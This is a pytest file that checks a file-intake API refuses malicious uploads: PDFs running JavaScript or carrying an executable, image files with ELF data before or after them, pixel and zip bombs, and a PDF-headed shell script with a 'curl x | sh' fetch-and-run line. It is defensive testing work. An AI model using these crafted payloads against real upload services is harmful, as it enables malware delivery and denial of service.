"""Malicious files uploaded as materials, against the real intake process: a file is
parsed as the type it claims, so a script behind PDF magic bytes, a PDF that runs
JavaScript or carries a file, a PNG header before an executable, an image with an
executable after it, a pixel bomb, an archive: each is refused with the reason named,
and nothing of it is kept."""

from __future__ import annotations

import io
import zipfile

import httpx
import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from .conftest import System

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)


def pdf(build: object = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if callable(build):
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_javascript(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('x');"),
        }
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


def with_attachment(writer: PdfWriter) -> None:
    writer.add_attachment("payload.exe", ELF)


def image(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, color=0).save(out, format=kind)
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.bin", bytes(10_000_000))
    return out.getvalue()


ATTACKS = {
    "script behind PDF magic": (
        b"%PDF-1.7\n#!/bin/sh\ncurl x | sh\n",
        "application/pdf",
        422,
        "malformed",
    ),
    "PDF running JavaScript": (pdf(with_javascript), "application/pdf", 422, "active_content"),
    "PDF carrying a file": (pdf(with_attachment), "application/pdf", 422, "active_content"),
    "PNG header before an ELF": (b"\x89PNG\r\n\x1a\n" + ELF, "image/png", 422, "malformed"),
    "PNG followed by an ELF": (image("PNG") + ELF, "image/png", 422, "trailing_data"),
    "JPEG followed by an ELF": (image("JPEG") + ELF, "image/jpeg", 422, "trailing_data"),
    "144-megapixel PNG bomb": (
        image("PNG", (12_000, 12_000), "1"),
        "image/png",
        422,
        "too_many_pixels",
    ),
    "zip bomb": (zipped(), "application/zip", 415, ""),
    "zip bomb called a PDF": (zipped(), "application/pdf", 422, "content_mismatch"),
}


async def upload(system: System, data: bytes, content_type: str) -> httpx.Response:
    async with httpx.AsyncClient(timeout=60) as http:
        return await http.post(
            f"{system.intake}/v1/materials",
            content=data,
            headers={
                "Authorization": f"Bearer {system.integrator_key}",
                "Content-Type": content_type,
            },
        )


async def test_a_real_pdf_and_png_are_accepted(system: System) -> None:
    """The control: uploading works, so the refusals below are the parsers'."""
    for data, content_type in [(pdf(), "application/pdf"), (image("PNG"), "image/png")]:
        answer = await upload(system, data, content_type)
        assert answer.status_code in (200, 201), answer.text


@pytest.mark.parametrize("attack", list(ATTACKS))
async def test_a_malformed_or_active_upload_is_refused(system: System, attack: str) -> None:
    data, content_type, status, reason = ATTACKS[attack]
    answer = await upload(system, data, content_type)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith("application/problem+json")
    assert reason in answer.text
